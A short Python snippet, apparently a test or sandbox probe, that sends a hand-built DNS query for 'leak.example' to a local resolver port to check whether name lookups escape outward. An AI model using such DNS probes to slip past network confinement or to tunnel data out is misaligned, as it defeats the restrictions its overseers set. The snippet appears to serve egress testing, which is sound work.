# Asking a name server. The one here does not answer; outside the question is sent.
import os, socket
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.connect(("127.0.0.1", int(os.environ["UDP"])))
resolver.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\4leak\7example\0\0\1\0\1")
